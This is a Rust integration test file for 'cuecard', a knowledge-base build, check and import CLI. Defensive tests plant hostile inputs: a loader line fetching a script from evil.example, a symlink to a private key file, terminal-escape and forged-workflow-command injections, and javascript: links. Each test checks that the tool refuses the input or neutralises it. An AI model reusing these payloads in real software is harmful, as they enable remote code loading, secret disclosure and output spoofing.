//! The `cuecard` binary as a knowledge manager runs it: on real folders,
//! reading its exit code, its messages and the bundle it writes.

use std::path::Path;
use std::process::Command;

use tempfile::TempDir;

mod support;
use support::{buckets, build, cuecard, kb, list_files, manifest, stderr};

#[test]
fn builds_a_bundle_with_one_index_per_locale() {
    let kb = kb(&[
        ("en-US/billing/refund.md", "# Refund\n\nWithin 30 days.\n"),
        ("en-US/devices/reset.md", "# Reset\n\nHold the button.\n"),
        ("de-DE/billing/refund.md", "# Erstattung\n\nInnerhalb von 14 Tagen.\n"),
    ]);
    let out = kb.path().join("out");
    let result = build(kb.path(), &out);
    assert!(result.status.success(), "{}", stderr(&result));
    let manifest = manifest(&out);
    let locales: Vec<(&str, usize)> = manifest.locales.iter().map(|l| (l.locale.as_str(), l.articles)).collect();
    assert_eq!(locales, [("de-DE", 1), ("en-US", 2)]);
    assert_eq!(manifest.default_locale, "en-US");
    assert_eq!(manifest.format_version, cuecard_engine::BUNDLE_FORMAT_VERSION);
    for locale in &manifest.locales {
        for file in locale.files() {
            let bytes = std::fs::read(out.join(&file.path)).unwrap();
            assert_eq!(cuecard_engine::hash::content_hash(&bytes), file.sha256);
            assert!(file.path.contains(cuecard_engine::hash::short_hash(&file.sha256)));
        }
        for tier in [&locale.titles, &locale.head, &locale.index] {
            assert!(tier.delta.is_none(), "a first publish has no deltas");
            let parts = tier.parts().map(|f| (std::fs::read(out.join(&f.path)).unwrap(), f)).collect();
            let opened = cuecard_engine::LocaleIndex::open_verified_parts(parts).unwrap();
            assert_eq!(opened.num_articles() as usize, locale.articles);
        }
    }
    assert!(stderr(&result).contains("built 3 articles"), "{}", stderr(&result));
}

#[test]
fn folders_that_are_not_locale_tags_make_one_locale() {
    let kb = kb(&[
        ("Billing/refund.md", "# Refund\n"),
        ("Devices/reset.md", "# Reset\n"),
        ("_drafts/wip.md", "# Not published\n"),
        (".github/notes.md", "# Not an article\n"),
        ("Billing/_partial.md", "# Not an article either\n"),
    ]);
    let out = kb.path().join("out");
    assert!(build(kb.path(), &out).status.success());
    let manifest = manifest(&out);
    assert_eq!(manifest.locales.len(), 1);
    assert_eq!((manifest.locales[0].locale.as_str(), manifest.locales[0].articles), ("en", 2));
}

#[test]
fn two_folders_for_one_locale_are_an_error() {
    let kb = kb(&[("pt_BR/a.md", "# A\n"), ("pt-BR/b.md", "# B\n")]);
    let result = build(kb.path(), &kb.path().join("out"));
    assert_eq!(result.status.code(), Some(1));
    assert!(stderr(&result).contains("are both locale pt-BR"), "{}", stderr(&result));
}

#[test]
fn the_kb_config_names_locales_and_the_default() {
    let kb = kb(&[
        ("cuecard.yaml", "default_locale: de-DE\nlocales:\n  de-DE: {}\n  en-GB: { path: uk }\n"),
        ("de-DE/a.md", "# A\n"),
        ("uk/a.md", "# A\n"),
        ("fr-FR/a.md", "# Not listed, not built\n"),
    ]);
    let out = kb.path().join("out");
    let result = build(kb.path(), &out);
    assert!(result.status.success(), "{}", stderr(&result));
    let manifest = manifest(&out);
    assert_eq!(manifest.default_locale, "de-DE");
    let tags: Vec<&str> = manifest.locales.iter().map(|l| l.locale.as_str()).collect();
    assert_eq!(tags, ["de-DE", "en-GB"]);
}

#[test]
fn errors_name_file_and_line_and_nothing_is_written() {
    let kb = kb(&[
        ("en/good.md", "# Good\n"),
        ("en/bad-yaml.md", "---\ntitle: Fine\nsummary: [unclosed\n---\nBody\n"),
        ("en/bad-type.md", "---\ntitle:\n  - a\n  - b\n---\n"),
        ("en/dup-one.md", "---\nid: same\n---\n"),
        ("en/dup-two.md", "---\nid: same\n---\n"),
    ]);
    let out = kb.path().join("out");
    let result = build(kb.path(), &out);
    assert_eq!(result.status.code(), Some(1));
    let text = stderr(&result);
    let bad_yaml = kb.path().join("en/bad-yaml.md");
    assert!(text.contains(&format!("{}:3:", bad_yaml.display())), "{text}");
    assert!(text.contains("the front matter is not valid YAML"), "{text}");
    assert!(text.contains(&format!("{}:2:1: error: `title` must be text, but it is a list", kb.path().join("en/bad-type.md").display())), "{text}");
    assert!(text.contains("the id `same` is already used by"), "{text}");
    assert!(text.contains("help: "), "{text}");
    assert!(text.contains("3 errors in the knowledge base; nothing was published"), "{text}");
    assert!(!out.exists(), "no bundle is written");
}

#[test]
fn a_failed_build_leaves_the_previous_bundle_in_place() {
    let kb = kb(&[("en/a.md", "# A\n"), ("en/b.md", "# B\n")]);
    let out = kb.path().join("out");
    assert!(build(kb.path(), &out).status.success());
    let before = std::fs::read(out.join("manifest.json")).unwrap();
    let files_before = list_files(&out);

    std::fs::write(kb.path().join("en/b.md"), "---\ntitle: [broken\n---\n").unwrap();
    assert_eq!(build(kb.path(), &out).status.code(), Some(1));
    assert_eq!(std::fs::read(out.join("manifest.json")).unwrap(), before);
    assert_eq!(list_files(&out), files_before);

    // Fixed, it replaces the bundle completely (no stale files left behind).
    std::fs::write(kb.path().join("en/b.md"), "# B again\n\nChanged.\n").unwrap();
    assert!(build(kb.path(), &out).status.success());
    assert_ne!(std::fs::read(out.join("manifest.json")).unwrap(), before);
    let leftovers: Vec<_> = std::fs::read_dir(kb.path()).unwrap().filter_map(|e| e.ok()).map(|e| e.file_name()).filter(|n| n.to_string_lossy().contains("staging")).collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn refuses_to_overwrite_a_folder_that_is_not_a_bundle() {
    let kb = kb(&[("en/a.md", "# A\n"), ("precious/notes.txt", "keep me")]);
    let result = build(kb.path(), &kb.path().join("precious"));
    assert_eq!(result.status.code(), Some(2));
    assert!(stderr(&result).contains("holds no Cuecard bundle"), "{}", stderr(&result));
    assert!(kb.path().join("precious/notes.txt").exists());
}

#[test]
fn check_reports_without_writing() {
    let kb = kb(&[("en/a.md", "---\nid: a//b\n---\n")]);
    let result = cuecard(&["check", "--kb", kb.path().to_str().unwrap()]);
    assert_eq!(result.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&result.stdout);
    assert!(stdout.contains("a.md:2: error: the article id `a//b` has an empty part between `/`"), "{stdout}");
    assert!(!kb.path().join("out").exists());
    let clean = self::kb(&[("en/a.md", "# A\n")]);
    let result = cuecard(&["check", "--kb", clean.path().to_str().unwrap()]);
    assert!(result.status.success());
    assert!(stderr(&result).contains("checked 1 article: 0 errors, 0 warnings"), "{}", stderr(&result));
}

#[test]
fn a_missing_kb_is_a_clear_error() {
    let result = cuecard(&["build", "--kb", "/no/such/kb", "--out", "/tmp/never-written"]);
    assert_eq!(result.status.code(), Some(1));
    assert!(stderr(&result).contains("/no/such/kb: error: the knowledge base folder does not exist"), "{}", stderr(&result));
}

/// The warnings the sample kb shows on purpose (so every state the app
/// shows is exercised): (code, file in kb/).
const DELIBERATE_WARNINGS: &[(&str, &str)] = &[
    // de-DE translated it from the old £5-fee version; the source changed since.
    ("translation-outdated", "de-DE/billing/late-payment-fee.md"),
    // Two articles past their review date.
    ("review-overdue", "en-US/billing/financial-hardship.md"),
    ("review-overdue", "en-US/job-aids/new-agent-first-week.md"),
    // de-DE has 8 of the 9 job aids.
    ("missing-translation", "en-US/job-aids/keyboard-shortcuts.md"),
];

#[test]
fn the_sample_kb_checks_clean_but_for_its_deliberate_warnings() {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_cuecard"))
        .current_dir(repo)
        .args(["check", "--kb", "kb", "--format", "json", "--today", "2026-11-25"])
        .output()
        .unwrap();
    assert!(output.status.success(), "{}{}", String::from_utf8_lossy(&output.stdout), stderr(&output));
    let findings: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let mut found: Vec<(String, String)> = findings
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["code"].as_str().unwrap().to_string(), f["file"].as_str().unwrap().trim_start_matches("kb/").to_string()))
        .collect();
    found.sort();
    let mut expected: Vec<(String, String)> = DELIBERATE_WARNINGS.iter().map(|(c, f)| (c.to_string(), f.to_string())).collect();
    expected.sort();
    assert_eq!(found, expected);
    let out = TempDir::new().unwrap();
    assert!(build(&repo.join("kb"), &out.path().join("bundle")).status.success());
}

#[test]
fn the_feedback_link_template_is_checked_and_published_in_the_manifest() {
    let template = "https://git.example/kb/issues/new?title={title}&body={body}";
    let kb = kb(&[("a.md", "# A\n\nText.\n"), ("cuecard.yaml", &format!("feedback:\n  url: \"{template}\"\n"))]);
    let out = kb.path().join("out");
    let result = build(kb.path(), &out);
    assert!(result.status.success(), "{}", stderr(&result));
    assert_eq!(manifest(&out).feedback_url.as_deref(), Some(template));

    for (bad, why) in [("javascript:alert({title})", "not an http(s) or mailto: link"), ("https://x.example/?q={secret}", "`{secret}` is not a placeholder")] {
        std::fs::write(kb.path().join("cuecard.yaml"), format!("feedback:\n  url: \"{bad}\"\n")).unwrap();
        let refused = build(kb.path(), &kb.path().join("out-bad"));
        assert_eq!(refused.status.code(), Some(1), "{bad}");
        let text = support::stdout(&refused) + &stderr(&refused);
        assert!(text.contains("cuecard.yaml:2") && text.contains(why), "{text}");
        assert!(!kb.path().join("out-bad").join("manifest.json").exists());
    }
}

#[test]
fn the_signals_endpoint_and_scrub_patterns_are_checked_and_published_in_the_manifest() {
    let config = "signals:\n  endpoint: https://signals.example.com/collect\nscrub:\n  - name: policy number\n    pattern: 'POL-[0-9]{6}'\n";
    let kb = kb(&[("a.md", "# A\n\nText.\n"), ("cuecard.yaml", config)]);
    let out = kb.path().join("out");
    let result = build(kb.path(), &out);
    assert!(result.status.success(), "{}", stderr(&result));
    let published = manifest(&out);
    assert_eq!(published.signals_endpoint.as_deref(), Some("https://signals.example.com/collect"));
    assert_eq!(published.scrub.len(), 1);
    assert_eq!(published.scrub[0].name, "policy number");

    for (bad, line, why) in [
        ("signals:\n  endpoint: javascript:alert(1)\n", 2, "not an http(s) URL"),
        ("scrub:\n  - name: broken\n    pattern: 'POL-[0-9'\n", 3, "`broken` (POL-[0-9) is not a valid regular expression"),
        ("scrub:\n  - name: anything\n    pattern: '[0-9]*'\n", 3, "matches empty text"),
        // The device's engine (regex-lite) has no Unicode classes: refused here, not there.
        ("scrub:\n  - name: letters\n    pattern: '\\p{L}+-[0-9]+'\n", 3, "`letters` (\\p{L}+-[0-9]+) is not a valid regular expression"),
    ] {
        std::fs::write(kb.path().join("cuecard.yaml"), bad).unwrap();
        let refused = build(kb.path(), &kb.path().join("out-bad"));
        assert_eq!(refused.status.code(), Some(1), "{bad}");
        let text = support::stdout(&refused) + &stderr(&refused);
        assert!(text.contains(&format!("cuecard.yaml:{line}")) && text.contains(why), "{text}");
        assert!(!kb.path().join("out-bad").join("manifest.json").exists());
    }
    // Problems in several sections are all reported by one run.
    std::fs::write(kb.path().join("cuecard.yaml"), "signals:\n  endpoint: ftp://x.example\nscrub:\n  - name: broken\n    pattern: '('\n").unwrap();
    let refused = build(kb.path(), &kb.path().join("out-bad"));
    let text = support::stdout(&refused) + &stderr(&refused);
    assert!(text.contains("cuecard.yaml:2") && text.contains("cuecard.yaml:5"), "{text}");
}

#[test]
fn gaps_reports_what_collected_signals_could_not_find() {
    let kb = kb(&[("refunds.md", "# Refunds\n\nText.\n"), ("roaming.md", "# Roaming\n\nText.\n")]);
    let signals = kb.path().join("signals.jsonl");
    let line = |session: &str, event: &str| format!(r#"{{{event},"bundle":"b","session":"{session}","at":"2026-11-26T10:00:00Z"}}"#);
    let lines = [
        line("s1", r#""type":"cuecard:searched","query":"eSIM transfer","results":0,"locale":"en""#),
        line("s2", r#""type":"cuecard:searched","query":"esim transfer?","results":0,"locale":"en""#),
        line("s1", r#""type":"cuecard:searched","query":"refund","results":1,"locale":"en""#),
        line("s1", r#""type":"cuecard:article-opened","id":"refunds","title":"Refunds","locale":"en","shownBecause":"own","rank":1,"query":"refund""#),
        "not a signal".to_string(),
    ];
    std::fs::write(&signals, lines.join("\n")).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_cuecard"))
        .args(["gaps", "--signals"])
        .arg(&signals)
        .arg("--kb")
        .arg(kb.path())
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let text = support::stdout(&output);
    assert!(text.contains("locale en: 3 searches, 1 articles opened"), "{text}");
    assert!(text.contains("Searches that found nothing: 1\n      2  esim transfer  (2 sessions)"), "{text}");
    assert!(text.contains("Searches whose results nobody opened: 0"), "{text}");
    assert!(text.contains("Articles nobody opened: 1\n         roaming  Roaming"), "{text}");
    assert!(text.contains("Skipped 1 lines that are not Cuecard signals: line 5 ("), "{text}");

    let missing = Command::new(env!("CARGO_BIN_EXE_cuecard")).args(["gaps", "--signals", "/nonexistent/signals.jsonl"]).output().unwrap();
    assert_eq!(missing.status.code(), Some(2));
    assert!(stderr(&missing).contains("cannot read the signals file /nonexistent/signals.jsonl"), "{}", stderr(&missing));
}

#[test]
fn gaps_on_what_a_collector_really_receives_never_stops_or_prints_commands() {
    let dir = TempDir::new().unwrap();
    let signals = dir.path().join("signals.jsonl");
    let line = |query: &str| {
        let event = serde_json::json!({"type": "cuecard:searched", "query": query, "results": 0, "locale": "en", "bundle": "b", "session": "s", "at": ""});
        event.to_string()
    };
    let mut bytes = Vec::new();
    bytes.extend_from_slice(line("refund").as_bytes());
    bytes.extend_from_slice(b"\n\xc3\x28 broken UTF-8\n");
    bytes.extend_from_slice(line("x\n::error::forged annotation").as_bytes());
    bytes.push(b'\n');
    bytes.extend_from_slice(line("\u{1b}]0;pwned\u{7}\u{1b}[2Jclear").as_bytes());
    bytes.push(b'\n');
    bytes.extend(std::iter::repeat_n(b'{', 1 << 20));
    bytes.push(b'\n');
    bytes.extend_from_slice(line("refund").as_bytes());
    std::fs::write(&signals, &bytes).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_cuecard")).args(["gaps", "--signals"]).arg(&signals).output().unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let text = support::stdout(&output);
    assert!(text.contains("locale en: 4 searches"), "every good line counts: {text}");
    assert!(text.contains("Skipped 2 lines that are not Cuecard signals: line 2 (not UTF-8), line 5 (longer than 64 KB)."), "{text}");
    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "no terminal escape reaches the output: {text:?}");
    assert!(!text.lines().any(|l| l.trim_start().starts_with("::")), "no line is a workflow command: {text}");
    assert!(text.contains("x error::forged annotation") && text.contains("pwned\\u{7}\\u{1b}[2jclear"), "kept, escaped: {text}");
}

#[test]
fn fingerprint_never_publishes_what_a_link_in_the_site_points_to() {
    let site = TempDir::new().unwrap();
    let secret = TempDir::new().unwrap();
    std::fs::write(secret.path().join("id_rsa"), "PRIVATE KEY quetzal").unwrap();
    support::write_files(
        site.path(),
        &[
            ("index.html", "<!doctype html><html><head></head><body></body></html>\n"),
            ("meaning_worker_loader.js", "importScripts(\"./meaning_worker.js\");wasm_bindgen(\"./meaning_worker_bg.wasm\");"),
            ("meaning_worker.js", "var wasm_bindgen = function () {};"),
        ],
    );
    std::os::unix::fs::symlink(secret.path().join("id_rsa"), site.path().join("meaning_worker_bg.wasm")).unwrap();
    let result = cuecard(&["fingerprint", "--site", site.path().to_str().unwrap()]);
    assert_eq!(result.status.code(), Some(2), "refused: {}", stderr(&result));
    assert!(stderr(&result).contains("is a symbolic link, not a regular file"), "{}", stderr(&result));
    for file in list_files(site.path()) {
        let bytes = std::fs::read(site.path().join(&file)).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&bytes).contains("quetzal") || file.to_string_lossy() == "meaning_worker_bg.wasm", "{file:?} holds the target");
    }
}

#[test]
fn a_publish_never_reuses_a_file_whose_bytes_are_not_its_name() {
    let kb = kb(&[("a.md", "# Refunds\n\nWithin 30 days.\n")]);
    let out = kb.path().join("out");
    assert!(build(kb.path(), &out).status.success());
    // Same name, same size, other bytes: what a corrupt copy or a foreign
    // upload leaves.
    let file = &buckets(&out)[0].article_files[0];
    let path = out.join(&file.path);
    let size = std::fs::metadata(&path).unwrap().len() as usize;
    std::fs::write(&path, vec![b'x'; size]).unwrap();
    let result = build(kb.path(), &out);
    assert!(result.status.success(), "{}", stderr(&result));
    let bytes = std::fs::read(&path).unwrap();
    assert_eq!(cuecard_engine::hash::content_hash(&bytes), file.sha256, "the file was written again");
}

#[test]
fn fingerprint_names_the_workers_files_by_content_and_lists_them_in_the_page() {
    use base64::Engine as _;
    use sha2::Digest as _;
    let site = TempDir::new().unwrap();
    let page = "<!doctype html>\n<html>\n  <head>\n    <title>Cuecard</title>\n  </head>\n  <body></body>\n</html>\n";
    support::write_files(
        site.path(),
        &[
            ("index.html", page),
            ("meaning_worker_loader.js", "importScripts(\"./meaning_worker.js\");wasm_bindgen(\"./meaning_worker_bg.wasm\");"),
            ("meaning_worker.js", "var wasm_bindgen = function () {};"),
            ("meaning_worker_bg.wasm", "\0asm-not-really"),
        ],
    );
    let site_arg = site.path().to_str().unwrap();
    let first = cuecard(&["fingerprint", "--site", site_arg]);
    assert!(first.status.success(), "{}", stderr(&first));

    let names: Vec<String> = list_files(site.path()).iter().map(|p| p.file_name().unwrap().to_string_lossy().into_owned()).collect();
    for fixed in ["meaning_worker_loader.js", "meaning_worker.js", "meaning_worker_bg.wasm"] {
        assert!(!names.iter().any(|n| n == fixed), "{fixed} is gone: {names:?}");
    }
    let find = |suffix: &str| names.iter().find(|n| n.starts_with("meaning_worker-") && n.ends_with(suffix)).cloned().unwrap_or_else(|| panic!("no *{suffix} in {names:?}"));
    let (loader, wasm) = (find("_loader.js"), find("_bg.wasm"));
    let script = names.iter().find(|n| n.starts_with("meaning_worker-") && n.ends_with(".js") && !n.ends_with("_loader.js")).unwrap().clone();
    let loader_text = std::fs::read_to_string(site.path().join(&loader)).unwrap();
    assert_eq!(loader_text, format!("importScripts(\"./{script}\");wasm_bindgen(\"./{wasm}\");"));
    assert_eq!(std::fs::read(site.path().join(&wasm)).unwrap(), b"\0asm-not-really");

    // The page names each with the SRI hash of its bytes, inside <head>.
    let page = std::fs::read_to_string(site.path().join("index.html")).unwrap();
    for (part, name) in [("loader", &loader), ("script", &script), ("wasm", &wasm)] {
        let bytes = std::fs::read(site.path().join(name)).unwrap();
        let sri = format!("sha384-{}", base64::engine::general_purpose::STANDARD.encode(sha2::Sha384::digest(&bytes)));
        let link = format!("<link rel=\"cuecard-worker\" data-worker=\"meaning_worker\" data-part=\"{part}\" href=\"./{name}\" integrity=\"{sri}\" />");
        let at = page.find(&link).unwrap_or_else(|| panic!("{link} in {page}"));
        assert!(at < page.find("</head>").unwrap());
    }

    // A rerun (the hook runs on every `trunk serve` rebuild) changes nothing.
    let again = cuecard(&["fingerprint", "--site", site_arg]);
    assert!(again.status.success(), "{}", stderr(&again));
    assert_eq!(std::fs::read_to_string(site.path().join("index.html")).unwrap(), page);
    assert_eq!(list_files(site.path()).len(), names.len());

    // A loader that is not trunk's shim is an error that says which file.
    support::write_files(site.path(), &[("meaning_worker_loader.js", "importScripts('https://evil.example/x.js');")]);
    let wrong = cuecard(&["fingerprint", "--site", site_arg]);
    assert_eq!(wrong.status.code(), Some(2));
    assert!(stderr(&wrong).contains("meaning_worker_loader.js is not trunk's loader shim"), "{}", stderr(&wrong));
}

#[test]
fn init_writes_a_kb_that_checks_clean_and_never_overwrites() {
    let dir = TempDir::new().unwrap();
    let kb = dir.path().join("kb");
    let made = cuecard(&["init", kb.to_str().unwrap()]);
    assert!(made.status.success(), "{}", stderr(&made));
    for file in ["cuecard.yaml", "README.md", ".gitignore", ".github/workflows/cuecard.yml", ".gitlab-ci.yml", "en-US/_synonyms.txt", "es-MX/billing/refund-policy.md"] {
        assert!(kb.join(file).is_file(), "{file}");
    }
    let checked = cuecard(&["check", "--kb", kb.to_str().unwrap(), "--format", "json"]);
    assert!(checked.status.success(), "{}", stderr(&checked));
    let findings: serde_json::Value = serde_json::from_slice(&checked.stdout).unwrap();
    assert_eq!(findings, serde_json::json!([]), "the scaffold has no findings (the translation names its source's revision)");
    assert!(build(&kb, &dir.path().join("bundle")).status.success());
    // A folder that is not empty: refused; with --force, what is there stays.
    std::fs::write(kb.join("README.md"), "our own readme").unwrap();
    std::fs::remove_file(kb.join(".gitlab-ci.yml")).unwrap();
    let refused = cuecard(&["init", kb.to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(stderr(&refused).contains("is not empty: nothing was written"), "{}", stderr(&refused));
    let forced = cuecard(&["init", kb.to_str().unwrap(), "--force"]);
    assert!(forced.status.success(), "{}", stderr(&forced));
    assert!(stderr(&forced).contains("README.md (it was already there)"), "{}", stderr(&forced));
    assert_eq!(std::fs::read_to_string(kb.join("README.md")).unwrap(), "our own readme");
    assert!(kb.join(".gitlab-ci.yml").is_file(), "the missing file is added");
}

#[test]
fn site_needs_the_app_inside_and_says_how_to_get_it() {
    let version = support::stdout(&cuecard(&["--version"]));
    assert!(version.starts_with(&format!("cuecard {} (bundle format {}, ", env!("CARGO_PKG_VERSION"), cuecard_engine::BUNDLE_FORMAT_VERSION)), "{version}");
    let kb = kb(&[("a.md", "# Refunds\n\nWithin 30 days.\n")]);
    let out = kb.path().join("site");
    let result = cuecard(&["site", "--kb", kb.path().to_str().unwrap(), "--out", out.to_str().unwrap()]);
    if version.contains("no app inside") {
        // A plain `cargo build`: no panic, the way to a binary with the app.
        assert_eq!(result.status.code(), Some(2), "{}", stderr(&result));
        assert!(stderr(&result).contains("cargo xtask dist"), "{}", stderr(&result));
        assert!(!out.exists(), "nothing written");
    } else {
        assert!(result.status.success(), "{}", stderr(&result));
        let page = std::fs::read_to_string(out.join("index.html")).unwrap();
        let hash = version.split("app ").nth(1).unwrap().trim_end_matches([')', '\n']);
        assert!(page.contains(&format!("<meta name=\"cuecard-app\" content=\"{hash}\"")), "{page}");
        assert!(out.join("bundle/manifest.json").is_file() && out.join("_headers").is_file() && out.join("sw.js").is_file());
        // App files of an earlier version stay for the grace period, then go.
        let state_path = out.join(".cuecard-site.json");
        let mut state: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&state_path).unwrap()).unwrap();
        state["files"].as_array_mut().unwrap().push("cuecard-app-0000000000000000_bg.wasm".into());
        std::fs::write(&state_path, state.to_string()).unwrap();
        std::fs::write(out.join("cuecard-app-0000000000000000_bg.wasm"), "the previous app").unwrap();
        let again = cuecard(&["site", "--kb", kb.path().to_str().unwrap(), "--out", out.to_str().unwrap()]);
        assert!(stderr(&again).contains("0 app files new") && stderr(&again).contains("1 retired"), "{}", stderr(&again));
        assert!(out.join("cuecard-app-0000000000000000_bg.wasm").exists(), "kept for tabs that fetch late");
        let cleaned = cuecard(&["site", "--kb", kb.path().to_str().unwrap(), "--out", out.to_str().unwrap(), "--keep-old", "0s"]);
        assert!(stderr(&cleaned).contains("1 deleted"), "{}", stderr(&cleaned));
        assert!(!out.join("cuecard-app-0000000000000000_bg.wasm").exists());
        // Into a folder that is not a site: refused untouched.
        let foreign = kb.path().join("foreign");
        std::fs::create_dir_all(&foreign).unwrap();
        std::fs::write(foreign.join("notes.txt"), "mine").unwrap();
        let refused = cuecard(&["site", "--kb", kb.path().to_str().unwrap(), "--out", foreign.to_str().unwrap()]);
        assert_eq!(refused.status.code(), Some(2));
        assert_eq!(list_files(&foreign), [std::path::PathBuf::from("notes.txt")]);
    }
}

#[test]
fn a_zendesk_export_becomes_a_kb_that_checks_and_builds() {
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/zendesk-export");
    let dir = TempDir::new().unwrap();
    let kb = dir.path().join("kb");
    let result = cuecard(&["import", "zendesk", "--from", fixture.to_str().unwrap(), "--out", kb.to_str().unwrap(), "--owner-team", "Support knowledge"]);
    let text = stderr(&result);
    assert!(result.status.success(), "{text}");
    assert!(text.contains("imported 4 articles and translations from 8 pages"), "{text}");
    assert!(text.contains("1 images are not among the export's attachment files"), "{text}");
    assert!(text.contains("skipped 9002: a translation of article 999999, which the export does not hold"), "{text}");
    assert!(text.contains("1 <script> dropped") && text.contains("1 javascript: links kept as text"), "{text}");
    let reset = std::fs::read_to_string(kb.join("en-US/troubleshooting/reset-your-router.md")).unwrap();
    for expected in ["title: \"Reset your router\"", "category: troubleshooting", "tags: [home-internet, router, wifi]", "owner: { name: \"Ana Souza\", team: \"Support knowledge\" }", "changed: 2026-09-30", "redirect_from: [\"360001\"]", "imported_from: { system: zendesk, id: \"360001\"", "## Steps", "| Light | Meaning |", "![Router front](../../en-US/media/555-router-front.png)", "> [!WARNING]\n> Unplug the power first."] {
        assert!(reset.contains(expected), "missing {expected} in {reset}");
    }
    assert!(!reset.contains("document.cookie") && !reset.contains("javascript:"), "{reset}");
    let dispute = std::fs::read_to_string(kb.join("en-US/billing-payments/escalate-a-billing-dispute.md")).unwrap();
    assert!(dispute.contains("[reset the router](../troubleshooting/reset-your-router.md)"), "links between articles stay links: {dispute}");
    assert!(dispute.contains("audience: [tier-2-agents]") && dispute.contains("escalate --tier 2"), "{dispute}");
    let config = std::fs::read_to_string(kb.join("cuecard.yaml")).unwrap();
    assert!(config.contains("{ id: tier-2-agents, name: \"Tier 2 agents\" }") && config.contains("{ id: billing-payments, name: \"Billing & Payments\" }"), "{config}");
    // The German translation names a revision that differs: Zendesk marks it outdated.
    let german = std::fs::read_to_string(kb.join("de/troubleshooting/reset-your-router.md")).unwrap();
    assert!(german.contains("source_revision:") && german.contains("-outdated"), "{german}");

    let checked = cuecard(&["check", "--kb", kb.to_str().unwrap(), "--today", "2026-11-25", "--format", "json"]);
    let findings: serde_json::Value = serde_json::from_slice(&checked.stdout).unwrap();
    let errors: Vec<&serde_json::Value> = findings.as_array().unwrap().iter().filter(|f| f["severity"] == "error").collect();
    assert!(errors.is_empty(), "the import checks with no errors: {errors:?}");
    assert!(findings.as_array().unwrap().iter().any(|f| f["code"] == "translation-outdated"), "{findings}");
    // Nothing restricted in Zendesk is public here; drafts stay drafts.
    let out = dir.path().join("bundle");
    let built = build(&kb, &out);
    assert!(built.status.success(), "{}", stderr(&built));
    assert!(stderr(&built).contains("left out: 1 draft, 1 only for `tier-2-agents`"), "{}", stderr(&built));
    let bytes = support::bundle_bytes(&out);
    assert!(!support::contains(&bytes, "okapi-7") && !support::contains(&bytes, "Not yet."));
    assert_eq!(support::manifest(&out).media.len(), 1, "the attachment is the kb's image now");
    // The report as JSON: imported, skipped and why, what did not convert.
    let json_kb = dir.path().join("json-kb");
    let json = cuecard(&["import", "zendesk", "--from", fixture.to_str().unwrap(), "--out", json_kb.to_str().unwrap(), "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap_or_else(|_| panic!("{}", support::stdout(&json)));
    assert_eq!(report["imported"], 4);
    assert_eq!(report["skipped"][0]["id"], "9002");
    assert!(report["not_converted"].as_array().unwrap().iter().any(|n| n["source_id"] == "360001" && n["message"] == "1 <script> dropped"), "{report}");
    // Into a folder that is neither empty nor a kb: refused, untouched.
    let foreign = dir.path().join("foreign");
    std::fs::create_dir_all(&foreign).unwrap();
    std::fs::write(foreign.join("notes.txt"), "mine").unwrap();
    let refused = cuecard(&["import", "zendesk", "--from", fixture.to_str().unwrap(), "--out", foreign.to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(2));
    assert_eq!(list_files(&foreign), [std::path::PathBuf::from("notes.txt")]);
}

#[test]
fn importing_again_lands_upstream_changes_and_keeps_local_edits() {
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/zendesk-export");
    let dir = TempDir::new().unwrap();
    let export = dir.path().join("export");
    for file in list_files(&fixture) {
        let target = export.join(&file);
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::copy(fixture.join(&file), target).unwrap();
    }
    let kb = dir.path().join("kb");
    let import = |extra: &[&str]| {
        let mut args = vec!["import", "zendesk", "--from", export.to_str().unwrap(), "--out", kb.to_str().unwrap()];
        args.extend_from_slice(extra);
        cuecard(&args)
    };
    assert!(import(&[]).status.success());
    let reset = kb.join("en-US/troubleshooting/reset-your-router.md");
    let dispute = kb.join("en-US/billing-payments/escalate-a-billing-dispute.md");
    // Here: the dispute article is edited. Upstream: both articles change.
    std::fs::write(&dispute, std::fs::read_to_string(&dispute).unwrap() + "\nA local note.\n").unwrap();
    let page = std::fs::read_to_string(export.join("articles-page-1.json")).unwrap();
    let page = page.replace("When the lights blink orange", "When the lights blink amber").replace("Supervisor override code okapi-7.", "Supervisor override code okapi-8.");
    let page = page.replace("\"updated_at\": \"2026-10-01T10:00:00Z\"", "\"updated_at\": \"2026-11-20T10:00:00Z\"").replace("\"updated_at\": \"2026-08-01T10:00:00Z\"", "\"updated_at\": \"2026-11-20T10:00:00Z\"");
    std::fs::write(export.join("articles-page-1.json"), page).unwrap();
    let again = import(&[]);
    let text = stderr(&again);
    assert!(again.status.success(), "{text}");
    assert!(std::fs::read_to_string(&reset).unwrap().contains("blink amber"), "the upstream change lands: {text}");
    let kept = std::fs::read_to_string(&dispute).unwrap();
    assert!(kept.contains("A local note.") && kept.contains("okapi-7"), "the local edit stays: {kept}");
    assert!(text.contains("escalate-a-billing-dispute.md: edited here and upstream: kept as it is here"), "{text}");
    // Updated: the article, and its German translation (it names the source's new revision).
    assert!(text.contains("1 kept with local edits") && text.contains("2 updated"), "{text}");
    // --force takes upstream's.
    let forced = import(&["--force"]);
    assert!(forced.status.success(), "{}", stderr(&forced));
    assert!(std::fs::read_to_string(&dispute).unwrap().contains("okapi-8"));
}
